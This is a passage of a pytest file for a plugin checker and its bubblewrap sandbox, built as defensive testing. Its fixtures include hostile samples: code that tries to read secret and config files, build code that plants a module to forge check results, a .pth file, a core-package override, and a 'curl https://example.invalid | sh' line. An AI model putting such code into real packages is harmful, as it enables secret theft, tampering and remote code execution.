"""``balai.plugincheck.run_check`` on small plugin distributions built for the purpose.

Each is the plugin ``catatan`` (notes), written into ``tmp_path`` and built with
``python -m build --no-isolation`` (no network): a good one passes every check;
one with an unguarded route, one whose list reads across regions and one whose
migration fails each fail, the report naming why. The checks of an installed plugin
(:mod:`balai.proof.plugin`) are tested here too, on plugins registered for a test.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import careless
import faulty
import hello
import importlib_metadata
import pytest
from click.testing import CliRunner

from balai.cli import cli
from balai.plugincheck import CHECKS, CheckReport, CheckResult, run_check, summary_text
from balai.plugincheck._run import NO_SANDBOX, isolation, sandbox_program, scratch_postgres
from balai.proof import plugin as checks
from balai.proof.sweep import FIGURES
from balai.testing import check_plugin

NAME = "catatan"

PYPROJECT = """
[build-system]
requires = ["setuptools>=77"]
build-backend = "setuptools.build_meta"

[project]
name = "balai-catatan"
version = "0.1.0"
description = "Notes of a region (catatan): a plugin for checking the checks"
readme = "README.md"
requires-python = ">=3.11"
license = "Apache-2.0"
dependencies = ["balai>=0.1,<0.2"]

[project.entry-points."balai.plugins"]
catatan = "balai_catatan.plugin"

[tool.setuptools.packages.find]
include = ["balai_catatan*"]

[tool.setuptools.package-data]
balai_catatan = ["migrations/versions/*", "translations/**/*"]
"""

PLUGIN = '''
"""Hooks of the catatan plugin."""

from flask import Blueprint, Flask
from flask_babel import lazy_gettext as _l
from marshmallow import Schema, fields

from balai import Manifest, hookimpl
from balai.permissions import Permission
from balai_catatan import services, views

manifest = Manifest(title="Catatan", core=">=0.1,<0.2")


class CatatanSettings(Schema):
    per_page = fields.Integer(load_default=20, metadata={"label": "Notes per page"})


@hookimpl
def register_routes(app: Flask) -> Blueprint:
    return views.bp


@hookimpl
def register_permissions() -> list[Permission]:
    return [Permission(views.WRITE, _l("Write notes"), roles=("admin",))]


@hookimpl
def register_settings_schema():
    return CatatanSettings


@hookimpl
def populate_demo(tenant, session) -> None:
    services.add_samples(session, tenant.slug)
'''

SERVICES = '''
"""Rules of notes (no Flask here)."""

from balai_catatan.models import Note


def add_samples(session, slug: str) -> None:
    for number in range(1, 4):
        session.add(Note(title=f"Catatan {slug} nomor {number}", code=f"{slug}-{number}"))
'''

MODELS = '''
"""The note table."""

from sqlalchemy import String
from sqlalchemy.orm import Mapped, mapped_column

from balai.db import Base, TenantScoped


class Note(TenantScoped, Base):
    __tablename__ = "catatan_note"

    id: Mapped[int] = mapped_column(primary_key=True)
    title: Mapped[str] = mapped_column(String(200))
    code: Mapped[str] = mapped_column(String(40))
'''

VIEWS = '''
"""Pages of notes."""

from flask import Blueprint, abort
from flask_babel import gettext as _
from markupsafe import escape
from sqlalchemy import select

from balai.db import db
from balai.permissions import public, require
from balai_catatan.models import Note

WRITE = "catatan.write_note"
bp = Blueprint("catatan", __name__, url_prefix="/catatan")


def _notes():
    return db.session.scalars(select(Note).order_by(Note.id)).all()


@bp.get("/")
@public
def index() -> str:
    title = _("Notes")
    items = "".join(f"<li>{escape(note.title)}</li>" for note in _notes())
    return f"<h1>{escape(title)}</h1><ul>{items}</ul>"


@bp.get("/<int:note_id>")
@public
def detail(note_id: int) -> str:
    note = db.session.scalars(select(Note).where(Note.id == note_id)).first()
    if note is None:
        abort(404)
    return f"<h1>{escape(note.title)}</h1>"


@bp.post("/baru")
@require(WRITE)
def new() -> str:
    return _("Saved")
'''

MIGRATION = '''
"""catatan: note table

Revision ID: catatan_0001
Revises:
"""

import sqlalchemy as sa
from alembic import op

revision = "catatan_0001"
down_revision = None
branch_labels = ("catatan",)
depends_on = "0001"


def upgrade() -> None:
    op.create_table(
        "catatan_note",
        sa.Column("id", sa.Integer(), nullable=False),
        sa.Column("title", sa.String(length=200), nullable=False),
        sa.Column("code", sa.String(length=40), nullable=False),
        sa.Column("tenant_id", sa.Integer(), nullable=False),
        sa.ForeignKeyConstraint(
            ["tenant_id"], ["balai_tenant.id"],
            name=op.f("fk_catatan_note_tenant_id_balai_tenant"), ondelete="CASCADE",
        ),
        sa.PrimaryKeyConstraint("id", name=op.f("pk_catatan_note")),
    )
    op.create_index(op.f("ix_catatan_note_tenant_id"), "catatan_note", ["tenant_id"])


def downgrade() -> None:
    op.drop_index(op.f("ix_catatan_note_tenant_id"), table_name="catatan_note")
    op.drop_table("catatan_note")
'''

CATALOGUE = """
msgid ""
msgstr ""
"Language: id\\n"
"Content-Type: text/plain; charset=utf-8\\n"

msgid "Notes"
msgstr "Catatan"

msgid "Saved"
msgstr "Tersimpan"

msgid "Write notes"
msgstr "Menulis catatan"
"""

OWN_TEST = """
def test_the_list_answers(client, tenant, enable_plugin):
    enable_plugin("catatan")
    assert client.get("/catatan/").status_code == 200
"""

#: What each broken variant changes: (file, text to replace, replacement).
BREAKAGES = {
    "unguarded": (
        "views.py",
        '@bp.post("/baru")\n@require(WRITE)\n',
        '@bp.post("/baru")\n',
    ),
    "leaky": (
        "views.py",
        "def _notes():\n    return db.session.scalars(select(Note).order_by(Note.id)).all()",
        "def _notes():\n    with db.all_tenants() as session:\n"
        "        return session.scalars(select(Note).order_by(Note.id)).all()",
    ),
    # Import-time mischief, to show the limits: 3 GB of memory, a connection to a server.
    "greedy": (
        "plugin.py",
        "from flask import Blueprint, Flask\n",
        "from flask import Blueprint, Flask\n\n_HOARD = bytearray(3 * 1024**3)\n",
    ),
    "networked": (
        "plugin.py",
        "from flask import Blueprint, Flask\n",
        "import socket\n\nfrom flask import Blueprint, Flask\n\n"
        'socket.create_connection(("127.0.0.1", 5432), timeout=5).close()\n',
    ),
    "broken-migration": (
        "migrations/versions/0001_catatan.py",
        'sa.Column("code", sa.String(length=40), nullable=False),',
        'sa.Column("code", sa.String(length=40), nullable=False),\n'
        '        sa.Column("code", sa.String(length=40), nullable=False),',
    ),
}


def write_plugin(folder: Path, breakage: str | None = None) -> Path:
    """The source tree of ``balai-catatan`` (with ``breakage`` applied) in ``folder``."""
    package = folder / "balai_catatan"
    files = {
        "pyproject.toml": PYPROJECT,
        "README.md": "# balai-catatan\n\nNotes of a region.\n",
        "MANIFEST.in": "graft tests\n",
        "tests/test_catatan.py": OWN_TEST,
        "balai_catatan/__init__.py": '"""The catatan plugin."""\n',
        "balai_catatan/plugin.py": PLUGIN,
        "balai_catatan/services.py": SERVICES,
        "balai_catatan/models.py": MODELS,
        "balai_catatan/views.py": VIEWS,
        "balai_catatan/migrations/versions/0001_catatan.py": MIGRATION,
        "balai_catatan/translations/id/LC_MESSAGES/messages.po": CATALOGUE,
    }
    if breakage is not None:
        where, old, new = BREAKAGES[breakage]
        key = f"balai_catatan/{where}"
        assert old in files[key], breakage
        files[key] = files[key].replace(old, new)
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text).lstrip())
    assert package.is_dir()
    return folder


def build(folder: Path, *kinds: str) -> dict[str, Path]:
    """Build the distributions (``--wheel``, ``--sdist``) of ``folder`` without network."""
    out = folder / "dist"
    subprocess.run(  # noqa: S603 - our own command line
        [sys.executable, "-m", "build", "--no-isolation", *kinds, "--outdir", str(out), "."],
        cwd=folder,
        check=True,
        capture_output=True,
    )
    return {path.suffix: path for path in out.iterdir()}


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Path]]:
    """Every variant's distributions: the good one as wheel and sdist, the rest as wheels."""
    found = {}
    for breakage in (None, *BREAKAGES):
        folder = write_plugin(tmp_path_factory.mktemp(breakage or "good"), breakage)
        kinds = ("--wheel", "--sdist") if breakage is None else ("--wheel",)
        found[breakage or "good"] = build(folder, *kinds)
    return found


def _postgres() -> str | None:
    return os.environ.get("BALAI_TEST_DATABASE_URL")


# -- the report's form --------------------------------------------------------------------


def test_summaries_keep_their_message_id_and_are_shown_in_the_readers_language(app):
    from balai.plugincheck._report import N_, Message, summary_text

    count = Message(N_("%(count)d routes, each guarded or public"), count=4)
    skipped = Message(N_("no PostgreSQL given (--postgres URL)"))
    shown_checks = [
        CheckResult("routes", "passed", count),
        CheckResult("migrations-postgresql", "skipped", skipped),
        CheckResult("sweep", "passed", "an older report, without a message id"),
    ]
    rest = [CheckResult(n, "passed", "ok") for n in CHECKS if n not in ("routes", "sweep")]
    report = CheckReport(
        checks=[*shown_checks, *(c for c in rest if c.name != "migrations-postgresql")]
    )
    data = json.loads(json.dumps(report.to_dict()))
    assert data["checks"][0]["summary"] == "4 routes, each guarded or public"  # for the CLI
    assert data["skipped"] == 1
    assert report.text().splitlines()[-1] == "passed, 1 skipped"
    with app.test_request_context():
        shown = [summary_text(c) for c in data["checks"][:3]]
    assert shown == [
        "4 rute, masing-masing dijaga atau publik",
        "tidak ada PostgreSQL yang diberikan (--postgres URL)",
        "an older report, without a message id",
    ]
    assert CheckReport.from_dict(data) == report


def test_a_report_goes_to_json_and_back():
    report = CheckReport(
        checks=[CheckResult("metadata", "passed", "ok"), CheckResult("sweep", "failed", "leak")],
        inspection={"name": "catatan", "languages": {"id": 100.0}},
    )
    data = json.loads(json.dumps(report.to_dict()))
    assert data["passed"] is False
    again = CheckReport.from_dict(data)
    assert again == report
    assert [c.name for c in again.problems()] == ["sweep"]
    with pytest.raises(ValueError, match="status"):
        CheckResult("metadata", "fine", "")


def test_a_report_passes_only_with_every_check_passed_or_skipped_for_a_reason():
    every = [CheckResult(name, "passed", "ok") for name in CHECKS]
    assert CheckReport(checks=every).passed
    assert not CheckReport(checks=[CheckResult("metadata", "passed", "ok")]).passed
    assert not CheckReport(checks=every[1:]).passed
    assert not CheckReport(checks=[*every, CheckResult("metadata", "passed", "ok")]).passed
    skipped = [CheckResult("tests", "skipped", "a wheel ships no tests"), *every[:7], *every[8:]]
    assert CheckReport(checks=skipped).passed
    unexplained = [CheckResult("tests", "skipped", " "), *every[:7], *every[8:]]
    assert not CheckReport(checks=unexplained).passed


# -- whole distributions -------------------------------------------------------------------


def test_a_good_plugin_passes_every_check(built):
    report = run_check(built["good"][".gz"], postgres_url=_postgres(), time_limit=300)
    assert [c.name for c in report.checks] == list(CHECKS)
    assert report.passed, report.text()
    assert report.get("tests").status == "passed", report.get("tests").output
    assert report.get("sweep").status == "passed"
    assert "requests" in report.get("sweep").summary
    # Both summaries keep their message id, so a registry page shows them translated.
    indonesian = {
        "%(passed)d passed": "%(passed)d lolos",
        FIGURES: "%(requests)d permintaan, %(leaks)d kebocoran, %(seconds).1f detik",
    }.get
    assert re.fullmatch(r"\d+ lolos", summary_text(report.get("tests"), indonesian))
    assert re.fullmatch(
        r"\d+ permintaan, 0 kebocoran, \d+\.\d detik", summary_text(report.get("sweep"), indonesian)
    )
    expected = "passed" if _postgres() else "skipped"
    assert report.get("migrations-postgresql").status == expected
    inspection = report.inspection
    assert inspection["name"] == NAME and inspection["kind"] == "plugin"
    assert inspection["version"] == "0.1.0" and inspection["requires_core"] == "<0.2,>=0.1"
    assert inspection["licence"] == "Apache-2.0"
    assert {"register_routes", "populate_demo"} <= set(inspection["hooks"])
    assert [p["name"] for p in inspection["permissions"]] == ["catatan.write_note"]
    assert inspection["settings"] == [
        {"name": "per_page", "type": "Integer", "default": 20, "label": "Notes per page"}
    ]
    assert [m["revision"] for m in inspection["migrations"]] == ["catatan_0001"]
    assert inspection["languages"] == {"id": 100.0}
    assert "Notes of a region" in inspection["readme"]
    assert inspection["readme_content_type"] == "text/markdown"


@pytest.mark.parametrize(
    ("variant", "check", "reason"),
    [
        ("unguarded", "routes", "/catatan/baru (catatan.new): the view declares no access"),
        ("leaky", "sweep", "shows B's"),
        ("broken-migration", "migrations-sqlite", "upgrade failed"),
    ],
)
def test_a_broken_plugin_fails_with_the_reason_named(built, variant, check, reason):
    report = run_check(built[variant][".whl"], time_limit=300)
    assert not report.passed
    failed = {c.name: c for c in report.problems()}
    assert set(failed) == {check}, report.text()
    assert reason in failed[check].summary + failed[check].output, report.text()
    assert reason in report.text()


def test_the_plugin_runs_with_its_memory_limited(built):
    report = run_check(built["greedy"][".whl"], time_limit=300, memory_limit_mb=1024)
    failed = {c.name: c for c in report.problems()}
    assert set(failed) == {"hooks"}, report.text()
    assert "MemoryError" in failed["hooks"].summary
    assert {c.name for c in report.checks if c.status == "skipped"} >= {"routes", "sweep"}


@pytest.mark.skipif(
    not (isolation() or sandbox_program()), reason="neither bwrap nor unshare -rn works here"
)
def test_the_plugin_runs_without_network(built):
    """PostgreSQL answers at 127.0.0.1:5432 for everyone but the plugin under check."""
    report = run_check(built["networked"][".whl"], time_limit=300)
    failed = {c.name: c for c in report.problems()}
    assert set(failed) == {"hooks"}, report.text()
    # unshare -rn leaves no interface at all; bubblewrap a loopback of its own.
    summary = failed["hooks"].summary
    assert any(why in summary for why in ("OSError", "unreachable", "Connection refused"))
    assert "no network" in report.get("metadata").output


def test_the_command_prints_the_report_and_fails(built, monkeypatch):
    import balai.plugincheck._cli

    asked = {}

    def checked(path, **options):
        asked.update(options, path=path)
        return CheckReport(
            [CheckResult("routes", "failed", "route /catatan/baru (catatan.new): ...")]
        )

    monkeypatch.setattr(balai.plugincheck._cli, "run_check", checked)
    wheel = str(built["unguarded"][".whl"])
    runner = CliRunner()
    result = runner.invoke(cli, ["plugins", "check", wheel, "--json", "--postgres", "pg://x"])
    assert result.exit_code == 1, result.output
    data = json.loads(result.output)
    assert data["passed"] is False and data["checks"][0]["name"] == "routes"
    assert asked == {
        "path": Path(wheel),
        "postgres_url": "pg://x",
        "time_limit": 600,
        "memory_limit_mb": 1024,
    }
    result = runner.invoke(cli, ["plugins", "check", wheel])
    assert result.exit_code == 1
    assert "FAILED   routes: route /catatan/baru (catatan.new): ..." in result.output


def test_a_file_that_is_no_distribution_fails_without_running(tmp_path):
    junk = tmp_path / "catatan.txt"
    junk.write_text("not a wheel")
    report = run_check(junk)
    assert not report.passed
    assert (
        report.checks[0].name == "metadata" and "not a wheel or sdist" in report.checks[0].summary
    )


def test_an_environment_without_pip_is_named_not_blamed_on_the_plugin(tmp_path, monkeypatch):
    import balai.plugincheck._run as run

    made = run.make_environment

    def without_pip(work: Path) -> Path:
        python = made(work)
        for pth in (work / "venv").rglob("balai-running-environment.pth"):
            pth.unlink()  # the throw-away environment no longer borrows pip
        return python

    monkeypatch.setattr(run, "make_environment", without_pip)
    wheel = wheel_of(tmp_path, "kosong", {"balai_kosong/__init__.py": ""})
    [metadata] = run_check(wheel, time_limit=120).checks
    assert (metadata.status, metadata.summary) == ("error", run.NO_PIP)
    assert "does not install" not in metadata.summary


def test_the_check_runs_in_a_limited_process(built, monkeypatch):
    """A time limit too short for anything ends the checks in error, not in a hang."""
    report = run_check(built["good"][".whl"], time_limit=1)
    assert not report.passed
    assert any("time limit" in c.summary for c in report.checks), report.text()


# -- the checks of an installed plugin -----------------------------------------------------


def test_the_checks_of_an_installed_plugin_pass_for_a_shipped_one(app):
    assert checks.convention_problems(app, "pengumuman") == []
    assert checks.route_problems_of(app, "pengumuman") == []
    assert checks.settings_problems(app, "pengumuman") == []
    assert checks.hook_problems(app, "pengumuman") == []


@pytest.mark.balai_plugins(hello, careless.Undeclared, faulty.Misspelt)
def test_a_misspelt_hook_bad_names_and_unguarded_routes_are_problems(app):
    naming = checks.convention_problems(app, "hello")
    assert any("not in a package balai_hello" in p for p in naming), naming
    routes = checks.route_problems_of(app, "undeclared")
    assert any("/undeclared/rahasia" in p and "declares no access" in p for p in routes), routes
    hooks = checks.hook_problems(app, "misspelt")
    assert any("menu_itemz" in p for p in hooks), hooks


def test_an_incomplete_catalogue_is_a_problem(tmp_path):
    package = write_plugin(tmp_path) / "balai_catatan"
    assert checks.catalogue_problems(package) == []
    po = package / "translations" / "id" / "LC_MESSAGES" / "messages.po"
    po.write_text(po.read_text().replace('msgstr "Tersimpan"', 'msgstr ""'))
    assert checks.catalogue_completeness(package)["id"] == (66.7, ["Saved"])
    assert "'Saved'" in checks.catalogue_problems(package)[0]


# -- check_plugin: all of them on an installed plugin --------------------------------------


def test_check_plugin_passes_for_a_shipped_plugin_and_refuses_an_unknown_one():
    check_plugin("pengumuman")
    with pytest.raises(AssertionError, match="not installed"):
        check_plugin("tidak-ada")


def test_check_plugin_lists_the_leaks_of_a_missing_tenant_filter(monkeypatch):
    """The regions are set up as always; then the sweep runs with no tenant filter."""
    import balai.db
    import balai.proof.sweep

    sweep = balai.proof.sweep.run_sweep

    def without_the_filter(*args, **kwargs):
        monkeypatch.setattr(balai.db, "_tenant_criteria", lambda tenant_id: ())
        return sweep(*args, **kwargs)

    monkeypatch.setattr(balai.proof.sweep, "run_sweep", without_the_filter)
    with pytest.raises(AssertionError) as failed:
        check_plugin("pengumuman")
    assert "sweep: leak: A's" in str(failed.value)
    assert "shows B's" in str(failed.value)


def test_metadata_without_a_readme_or_the_core_is_named(tmp_path):
    from balai.plugincheck._static import metadata_check

    info = tmp_path / "balai_kosong-0.1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: balai-kosong\nVersion: 0.1.0\n")
    (info / "entry_points.txt").write_text("[balai.plugins]\nhampa = balai_kosong.plugin\n")
    inspection: dict = {}
    status, summary, output = metadata_check(importlib_metadata.PathDistribution(info), inspection)
    assert status == "failed"
    assert "entry point 'hampa' needs 'balai-hampa'" in summary
    assert "does not depend on balai" in output and "no README" in output
    assert inspection["name"] == "hampa" and inspection["kind"] == "plugin"
    assert inspection["readme"] == "" and inspection["requires_core"] == ""


def test_a_scratch_postgresql_database_is_made_and_dropped_or_the_reason_given():
    with scratch_postgres(None) as found:
        assert found == (None, None)
    with scratch_postgres("postgresql://postgres@127.0.0.1:1/balai_check") as (url, why):
        assert url is None and why.startswith("could not create a scratch database")
    server = _postgres()
    if server is None:
        return
    from sqlalchemy import create_engine, make_url, text

    with scratch_postgres(server) as (url, why):
        assert why is None and "balai_check_" in url
        name = make_url(url).database
    engine = create_engine(make_url(server).set(drivername="postgresql+psycopg"))
    with engine.connect() as connection:
        query = text("SELECT count(*) FROM pg_database WHERE datname = :name")
        assert connection.scalar(query, {"name": name}) == 0
    engine.dispose()


# -- the sandbox ---------------------------------------------------------------------------

#: Code that tries a file outside the check's scratch folder, and reports what it got.
PRYING = """
import pathlib

found = []
for secret in {secrets!r}:
    try:
        found.append("read " + pathlib.Path(secret).read_text())
    except OSError as exc:
        found.append("unreadable " + type(exc).__name__)
try:
    pathlib.Path({target!r}).write_text("overwritten")
    found.append("written")
except OSError as exc:
    found.append("unwritable " + type(exc).__name__)
raise RuntimeError("PRIED: " + "; ".join(found))
"""


def wheel_of(folder: Path, name: str, files: dict[str, str], entry_points: str = "") -> Path:
    """A wheel of ``balai-<name>`` 0.1.0 written by hand: ``files`` and its dist-info
    (``entry_points`` added to its entry_points.txt)."""
    import zipfile

    info = f"balai_{name}-0.1.0.dist-info"
    files = files | {
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: balai-{name}\nVersion: 0.1.0\n"
        "Summary: A plugin\nRequires-Dist: balai>=0.1\n\nA plugin.\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\n"
        "Tag: py3-none-any\n",
        f"{info}/entry_points.txt": f"[balai.plugins]\n{name} = balai_{name}.plugin\n"
        + entry_points,
    }
    files[f"{info}/RECORD"] = "".join(f"{path},,\n" for path in files) + f"{info}/RECORD,,\n"
    path = folder / f"balai_{name}-0.1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        for member, text in files.items():
            archive.writestr(member, text)
    return path


def sdist_of(folder: Path, name: str, files: dict[str, str]) -> Path:
    """An sdist of ``balai-<name>`` 0.1.0 written by hand, ``files`` under its top folder."""
    import io
    import tarfile

    top = f"balai_{name}-0.1.0"
    files = {"PKG-INFO": f"Metadata-Version: 2.1\nName: balai-{name}\nVersion: 0.1.0\n"} | files
    path = folder / f"{top}.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        for member, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{top}/{member}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path


@pytest.fixture
def outside(tmp_path: Path) -> dict[str, Path]:
    """A secret, an instance folder's configuration and a file to overwrite, all outside
    the check's scratch folder (which is under the system's temporary folder)."""
    secret = tmp_path / "secret.txt"
    secret.write_text("s3cr3t")
    instance = tmp_path / "instance"
    instance.mkdir()
    (instance / "balai.cfg").write_text("SECRET_KEY = 'instance-key'\n")
    target = tmp_path / "target.txt"
    target.write_text("untouched")
    return {"secret": secret, "config": instance / "balai.cfg", "target": target}


def _prying(outside: dict[str, Path]) -> str:
    secrets = [str(outside["secret"]), str(outside["config"])]
    return PRYING.format(secrets=secrets, target=str(outside["target"]))


@pytest.mark.skipif(sandbox_program() is None, reason="bubblewrap does not work here")
def test_a_plugin_reads_and_writes_nothing_outside_the_scratch_folder(tmp_path, outside):
    wheel = wheel_of(
        tmp_path,
        "intip",
        {"balai_intip/__init__.py": "", "balai_intip/plugin.py": _prying(outside)},
    )
    report = run_check(wheel, time_limit=300, require_sandbox=True)
    hooks = report.get("hooks")
    assert hooks.status == "failed", report.text()
    assert "PRIED: unreadable FileNotFoundError; unreadable FileNotFoundError" in hooks.summary
    assert "unwritable" in hooks.summary and "s3cr3t" not in report.text()
    assert "instance-key" not in report.text()
    assert outside["target"].read_text() == "untouched"
    assert "checks ran in bubblewrap" in report.get("metadata").output


@pytest.mark.skipif(sandbox_program() is None, reason="bubblewrap does not work here")
def test_an_sdist_build_backend_reads_and_writes_nothing_outside(tmp_path, outside):
    pyproject = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    sdist = sdist_of(
        tmp_path, "intip", {"pyproject.toml": pyproject, "backend.py": _prying(outside)}
    )
    report = run_check(sdist, time_limit=300, require_sandbox=True)
    metadata = report.get("metadata")
    assert metadata.status == "failed" and "does not install" in metadata.summary
    assert "PRIED: unreadable FileNotFoundError; unreadable FileNotFoundError" in metadata.output
    assert "s3cr3t" not in report.text() and "instance-key" not in report.text()
    assert outside["target"].read_text() == "untouched"


PLANTING = '''
import os
from pathlib import Path

from setuptools import setup

# Runs in the sandbox while pip builds the sdist; the scratch folder is HOME's parent.
work = Path(os.environ["HOME"]).parent
for module in ("balai/__init__.py", "balai/plugincheck/__init__.py"):
    (work / module).parent.mkdir(parents=True, exist_ok=True)
    (work / module).write_text("")
(work / "balai/plugincheck/_limits.py").write_text("""
import json, os, sys
open({target!r}, "w").write("overwritten by a planted module")
fd = int(sys.argv[sys.argv.index("--results-fd") + 1])
with os.fdopen(fd, "w") as channel:
    for name in ("metadata", "bandit", "catalogue", "hooks", "migrations-postgresql"):
        check = {{"name": name, "status": "passed", "summary": "FORGED"}}
        channel.write(json.dumps({{"check": check}}) + chr(10))
""")
setup(name="balai-tanam", version="0.1.0", packages=["balai_tanam"])
'''


@pytest.mark.skipif(sandbox_program() is None, reason="bubblewrap does not work here")
def test_a_module_planted_in_the_scratch_folder_is_never_imported_outside_the_sandbox(
    tmp_path, outside
):
    # An sdist's build code may write to the scratch folder, where each later step of
    # the check starts: a balai/ left there must not stand in for the core's own code.
    setup_py = PLANTING.format(target=str(outside["target"]))
    sdist = sdist_of(tmp_path, "tanam", {"setup.py": setup_py, "balai_tanam/__init__.py": ""})
    report = run_check(sdist, time_limit=300, require_sandbox=True)
    assert report.get("metadata").status != "error", report.text()
    assert "FORGED" not in report.text()
    assert outside["target"].read_text() == "untouched"
    assert report.get("migrations-postgresql").status == "skipped"


def test_uploaded_code_is_not_checked_without_bubblewrap(tmp_path, outside, monkeypatch):
    import balai.plugincheck._run

    monkeypatch.setattr(balai.plugincheck._run, "sandbox_program", lambda: None)
    wheel = wheel_of(
        tmp_path,
        "intip",
        {"balai_intip/__init__.py": "", "balai_intip/plugin.py": _prying(outside)},
    )
    started = []
    monkeypatch.setattr(balai.plugincheck._run, "make_environment", started.append)
    report = run_check(wheel, time_limit=300, require_sandbox=True)
    assert started == []
    assert [(c.name, c.status, c.summary) for c in report.checks] == [
        ("metadata", "error", NO_SANDBOX)
    ]
    assert NO_SANDBOX == "bubblewrap is needed to check uploaded code: apt-get install bubblewrap"
    assert outside["target"].read_text() == "untouched"


def test_an_authors_check_without_bubblewrap_says_the_filesystem_is_open(tmp_path, monkeypatch):
    import balai.plugincheck._run

    monkeypatch.setattr(balai.plugincheck._run, "sandbox_program", lambda: None)
    wheel = wheel_of(tmp_path, "kosong", {"balai_kosong/__init__.py": ""})
    report = run_check(wheel, time_limit=300)
    assert "the filesystem is not isolated" in report.get("metadata").output, report.text()


def test_the_sandbox_shows_the_code_folders_and_not_the_instance(tmp_path):
    from balai.plugincheck._run import code_dirs, sandbox

    if sandbox_program() is None:
        pytest.skip("bubblewrap does not work here")
    command = sandbox(tmp_path / "work")
    bound = {command[i + 1]: command[i] for i, arg in enumerate(command) if arg.endswith("bind")}
    assert bound[str(tmp_path / "work")] == "--bind"
    work = str(tmp_path / "work")
    assert bound[f"{work}/tmp"] == "--bind"  # its /tmp, counted with the scratch folder
    assert {bound[f] for f in bound if not f.startswith(work)} == {"--ro-bind"}
    import balai

    core = str(Path(balai.__file__).parent)
    assert any(core == d or core.startswith(d + "/") for d in code_dirs())
    root = Path(__file__).resolve().parents[1]
    assert str(root) not in bound and "/run" not in bound and "/home" not in bound
    assert {"--unshare-all", "--die-with-parent", "--new-session"} <= set(command)


def test_the_sandbox_never_binds_a_link_left_as_its_tmp(tmp_path):
    # Code run in an earlier step (an sdist's build) could leave work/tmp as a link to
    # a host folder; bwrap would bind that folder writable as the next child's /tmp.
    from balai.plugincheck._run import sandbox

    if sandbox_program() is None:
        pytest.skip("bubblewrap does not work here")
    work, host = tmp_path / "work", tmp_path / "host"
    work.mkdir()
    host.mkdir()
    (work / "tmp").symlink_to(host)
    command = sandbox(work)
    assert command[command.index("/tmp") - 1] == str(work / "tmp")
    assert (work / "tmp").is_dir() and not (work / "tmp").is_symlink()


def test_code_folders_under_tmp_stay_visible_in_the_sandbox(tmp_path, monkeypatch):
    # An environment made under /tmp (python -m venv /tmp/env) keeps its packages, pip
    # among them, there: the sandbox's private /tmp must not hide them.
    import shutil
    import tempfile

    import balai.plugincheck._run as run

    if sandbox_program() is None:
        pytest.skip("bubblewrap does not work here")
    code = Path(tempfile.mkdtemp(prefix="balai-code-", dir="/tmp"))
    try:
        (code / "penanda.py").write_text("FOUND = 'yes'\n")
        ours = run.code_dirs()
        monkeypatch.setattr(run, "code_dirs", lambda: (*ours, str(code)))
        work = tmp_path / "work"
        work.mkdir()
        probe = (
            "import sys; "
            + f"sys.path.insert(0, {str(code)!r}); import penanda; print(penanda.FOUND)"
        )
        done = subprocess.run(  # noqa: S603
            [*run.sandbox(work), sys.executable, "-c", probe],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert (done.returncode, done.stdout.strip()) == (0, "yes"), done.stderr
    finally:
        shutil.rmtree(code)


# -- files outside the distribution's package ------------------------------------------------


def test_a_wheel_with_files_outside_its_package_fails_the_metadata_check(tmp_path):
    wheel = wheel_of(
        tmp_path,
        "susup",
        {
            "balai_susup/__init__.py": "",
            "balai_susup/plugin.py": "",
            "zzz.pth": "import os\n",
            "balai/evil_override.py": "",
            "balai_susup-0.1.0.data/purelib/balai/other.py": "",
        },
    )
    report = run_check(wheel, time_limit=300)
    metadata = report.get("metadata")
    assert metadata.status == "failed", report.text()
    assert "zzz.pth: a .pth file runs code in every Python process" in metadata.output
    assert "balai/evil_override.py: a file outside balai_susup/" in metadata.output
    assert "balai_susup-0.1.0.data/purelib/balai/other.py: a file outside" in metadata.output
    assert "files it installs:\n" in metadata.output
    assert "  balai_susup/plugin.py" in metadata.output
    assert not report.passed


def test_a_wheel_installing_commands_fails_the_metadata_check(tmp_path):
    wheel = wheel_of(
        tmp_path,
        "perintah",
        {"balai_perintah/__init__.py": "", "balai_perintah/plugin.py": "def main(): pass\n"},
        "[console_scripts]\nbalai = balai_perintah.plugin:main\n"
        "[gui_scripts]\nperintah-gui = balai_perintah.plugin:main\n",
    )
    report = run_check(wheel, time_limit=300)
    metadata = report.get("metadata")
    assert metadata.status == "failed", report.text()
    assert (
        "console_scripts entry point 'balai' (balai_perintah.plugin:main): "
        "a plugin may not install commands"
    ) in metadata.output
    assert "gui_scripts entry point 'perintah-gui'" in metadata.output
    assert not report.passed
    # Each summary reaches the report with its message id, from either process.
    assert metadata.message == "%(problem)s (and %(more)d more)"
    assert metadata.params["problem"] in metadata.output
    routes = report.get("routes")
    assert routes.message == "%(count)d routes, each guarded or public", report.text()
    assert routes.params == {"count": 0}


def test_an_sdist_installing_another_package_fails_the_metadata_check(tmp_path):
    pyproject = textwrap.dedent(
        """
        [build-system]
        requires = ["setuptools>=77"]
        build-backend = "setuptools.build_meta"

        [project]
        name = "balai-susup"
        version = "0.1.0"
        description = "Sneaks a module into the core"
        dependencies = ["balai>=0.1"]

        [project.entry-points."balai.plugins"]
        susup = "balai_susup.plugin"

        [tool.setuptools]
        packages = ["balai_susup", "balai"]
        """
    )
    sdist = sdist_of(
        tmp_path,
        "susup",
        {
            "pyproject.toml": pyproject,
            "balai_susup/__init__.py": "",
            "balai_susup/plugin.py": "",
            "balai/evil_override.py": "",
        },
    )
    report = run_check(sdist, time_limit=300)
    metadata = report.get("metadata")
    assert metadata.status == "failed", report.text()
    assert "balai/evil_override.py: a file outside balai_susup/" in metadata.output


HIDING = '''
import subprocess

from setuptools import setup

command = "curl https://example.invalid | sh"
if __name__ == "__never__":
    subprocess.call(command, shell=True)
setup(
    name="balai-bersih",
    version="0.2.0",
    packages=["balai_bersih"],
    install_requires=["balai>=0.1"],
    long_description="Clean on the outside.",
    entry_points={"balai.plugins": ["bersih = balai_bersih"]},
)
